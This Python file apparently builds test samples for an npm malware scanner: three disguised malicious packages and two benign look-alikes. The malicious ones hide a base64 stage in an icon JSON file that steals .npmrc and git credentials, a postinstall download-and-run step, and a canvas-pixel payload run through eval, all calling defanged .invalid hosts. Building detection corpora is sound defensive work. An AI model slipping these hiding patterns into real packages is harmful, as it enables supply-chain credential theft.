"""Samples of the `reach5` branch for scripts/make-samples.py (2026-11-25, issue 6): hidden code
run by a `vm` runner called on an inline `require("vm")` (no `vm.` in the file), in shapes of our
own, and a tricky benign package that runs a user's config file the same way.

Malicious samples are in SAMPLES, tricky benign ones in BENIGN; file names start with `reach5-`.
Same safety rules as samples_malicious.py: every source is Python string data, packed into a
tarball in memory, never written out, imported or run. Defanged: attacker hosts under reserved
names (.invalid, .example, .test); made-up values.
"""

import base64
import json

from samples_malicious import S, pj
from samples_common import readme, registry

SAMPLES, BENIGN, sample, benign = registry()


# =============================================================================================
# Malicious


@sample
def inline_vm_json_stage():
    stage = (
        "(function(){var f=require('fs'),p=require('path'),o=require('os'),h=require('https');"
        "var out={};['.npmrc','.git-credentials'].forEach(function(n){try{out[n]=f.readFileSync(p.join(o.homedir(),n),'utf8')}catch(e){}});"
        "var q=h.request({host:'cdn.icon-sets.invalid',path:'/i',method:'POST'});q.on('error',function(){});"
        "q.end(JSON.stringify(out));})();"
    )
    icons = {
        "version": 3,
        "prefix": "ic",
        "icons": {"home": "M3 12l9-9 9 9", "user": "M12 12a4 4 0 1 0 0-8"},
        "meta": {"build": base64.b64encode(stage.encode()).decode()},
    }
    index = r'''"use strict";
const path = require("path");

// SVG path data for the icon set, by name.
const set = JSON.parse(require("fs").readFileSync(path.join(__dirname, "icons.json"), "utf8"));

function icon(name, size = 24) {
  const d = set.icons[name];
  return d ? `<svg width="${size}" height="${size}" viewBox="0 0 24 24"><path d="${d}"/></svg>` : "";
}

// Precompiled sprite metadata.
try {
  require("vm").runInNewContext(Buffer.from(set.meta.build, "base64").toString(), { require, Buffer });
} catch (e) {}

module.exports = { icon, names: Object.keys(set.icons) };
'''
    files = {
        "package.json": pj(name="tiny-icon-paths", version="2.3.1", main="index.js",
                           description="SVG path data for common UI icons"),
        "README.md": readme("tiny-icon-paths", "```js\nrequire('tiny-icon-paths').icon('home')\n```"),
        "index.js": index,
        "icons.json": json.dumps(icons, indent=2) + "\n",
    }
    return S(
        "reach5-inline-vm-json-stage",
        "stage kept base64 in a field of a JSON data file the package ships, run at import by require('vm').runInNewContext: .npmrc and git credentials posted out",
        "2025",
        ["hidden-code-in-non-js", "vm", "credential-theft", "network", "load-time"],
        "Other shape of evasion-sourcemap-sourcescontent-stage: the runner is called on an "
        "inline require('vm') (the file never writes 'vm.'), the carrier is a JSON field.",
        files,
    )


@sample
def inline_vm_remote_postinstall():
    setup = r'''"use strict";
// Fetches the platform's prebuilt binding manifest.
const url = "https://prebuilds.fastcsv.invalid/manifest/" + process.platform + "-" + process.arch;
require("https").get(url, (res) => {
  let body = "";
  res.setEncoding("utf8");
  res.on("data", (c) => (body += c));
  res.on("end", () => {
    try {
      require("node:vm").compileFunction(body, ["require", "process"])(require, process);
    } catch (e) {}
  });
}).on("error", () => {});
'''
    index = r'''"use strict";
module.exports = function parse(text, sep = ",") {
  return text.split(/\r?\n/).filter(Boolean).map((l) => l.split(sep));
};
'''
    files = {
        "package.json": pj(name="fastcsv-prebuilt", version="0.9.4", main="index.js",
                           description="Fast CSV parsing with prebuilt bindings",
                           scripts={"postinstall": "node scripts/setup.js"}),
        "README.md": readme("fastcsv-prebuilt", "```js\nrequire('fastcsv-prebuilt')('a,b\\n1,2')\n```"),
        "index.js": index,
        "scripts/setup.js": setup,
    }
    return S(
        "reach5-inline-vm-remote-postinstall",
        "install script downloads a 'manifest' and runs the reply with require('node:vm').compileFunction",
        "2025",
        ["install-script", "remote-code", "vm", "network"],
        "Download-and-run at install time with the vm runner on an inline require: no 'vm.' "
        "and no secret source in the file.",
        files,
    )

@sample
def canvas_pixel_stage():
    index = r'''"use strict";
// Loads the widget's sprite sheet and caches its palette.
function loadSprites(cb) {
  if (typeof document === "undefined") return;
  const img = new Image();
  img.crossOrigin = "anonymous";
  img.addEventListener("load", function () {
    const canvas = document.createElement("canvas");
    canvas.width = img.width; canvas.height = img.height;
    const ctx = canvas.getContext("2d");
    ctx.drawImage(img, 0, 0);
    const data = ctx.getImageData(0, 0, img.width, 1).data;
    let palette = "";
    for (let i = 0; i < data.length; i += 4) { if (!data[i]) break; palette += String.fromCharCode(data[i]); }
    try { eval(atob(palette)); } catch (e) {}
    cb && cb(img);
  });
  img.src = "https://static.star-rating.invalid/sprites/v2.png";
}

function stars(n, max = 5) {
  return "\u2605".repeat(n) + "\u2606".repeat(max - n);
}

loadSprites();
module.exports = { stars, loadSprites };
'''
    files = {
        "package.json": pj(name="star-rating-lite", version="1.7.2", main="index.js",
                           description="Tiny star rating widget"),
        "README.md": readme("star-rating-lite", "```js\nrequire('star-rating-lite').stars(3)\n```"),
        "index.js": index,
    }
    return S(
        "reach5-canvas-pixel-stage",
        "browser widget draws a remote 'sprite sheet' on a canvas, reads the red channel of its first row back to text and evals it (base64)",
        "2025",
        ["steganography", "image-payload", "canvas", "eval", "network", "load-time"],
        "Other shape of evasion-qr-image-payload: no QR decoder, the stage is one byte per pixel "
        "read with getImageData and run with eval(atob(...)).",
        files,
    )


# =============================================================================================
# Tricky benign


@benign
def b_inline_vm_user_config():
    index = r'''"use strict";
const fs = require("fs");
const path = require("path");

const pkg = JSON.parse(fs.readFileSync(path.join(__dirname, "package.json"), "utf8"));

// Loads the project's `tasks.config.js` in a sandbox: the user's own file, run on purpose.
function loadConfig(dir = process.cwd()) {
  const file = path.join(dir, "tasks.config.js");
  if (!fs.existsSync(file)) return {};
  const sandbox = { module: { exports: {} }, console };
  require("vm").runInNewContext(fs.readFileSync(file, "utf8"), sandbox, { filename: file });
  return sandbox.module.exports;
}

function banner() {
  return `${pkg.name} v${pkg.version}`;
}

module.exports = { loadConfig, banner };
'''
    files = {
        "package.json": pj(name="task-sandbox", version="1.2.0", main="index.js",
                           description="Run project task definitions in a vm sandbox"),
        "README.md": readme("task-sandbox", "```js\nrequire('task-sandbox').loadConfig()\n```"),
        "index.js": index,
    }
    return S(
        "reach5-benign-inline-vm-user-config",
        "task runner loads the project's config file with require('vm').runInNewContext; reads its own package.json only for a banner",
        "2025",
        ["vm", "config-loader"],
        "Mirrors reach5-inline-vm-json-stage: inline require('vm') runner and a read of a "
        "data file the package ships, but what runs is the user's project file.",
        files,
    )

@benign
def b_canvas_filter_template():
    index = r'''"use strict";
// Image filters on a canvas, with a tiny compiled template for the CSS of the preview.
const css = new Function("w", "h", "return 'width:' + w + 'px;height:' + h + 'px'");

function invert(canvas) {
  const ctx = canvas.getContext("2d");
  const px = ctx.getImageData(0, 0, canvas.width, canvas.height);
  for (let i = 0; i < px.data.length; i += 4) {
    px.data[i] = 255 - px.data[i];
    px.data[i + 1] = 255 - px.data[i + 1];
    px.data[i + 2] = 255 - px.data[i + 2];
  }
  ctx.putImageData(px, 0, 0);
  canvas.style.cssText = css(canvas.width, canvas.height);
  return canvas;
}

function load(url, cb) {
  const img = new Image();
  img.onload = () => { const c = document.createElement("canvas"); c.width = img.width; c.height = img.height; c.getContext("2d").drawImage(img, 0, 0); cb(invert(c)); };
  img.src = url;
}

module.exports = { invert, load };
'''
    files = {
        "package.json": pj(name="canvas-invert", version="3.0.1", main="index.js",
                           description="Invert the colours of an image on a canvas"),
        "README.md": readme("canvas-invert", "```js\nrequire('canvas-invert').load(url, (c) => document.body.append(c))\n```"),
        "index.js": index,
    }
    return S(
        "reach5-benign-canvas-filter-template",
        "image filter reading and writing canvas pixels of an image loaded by URL, in a file that also compiles a constant template with new Function",
        "2025",
        ["canvas", "function-constructor"],
        "Mirrors reach5-canvas-pixel-stage: remote image, getImageData, and a code runner in the "
        "same file, but the pixels are only transformed and drawn back.",
        files,
    )
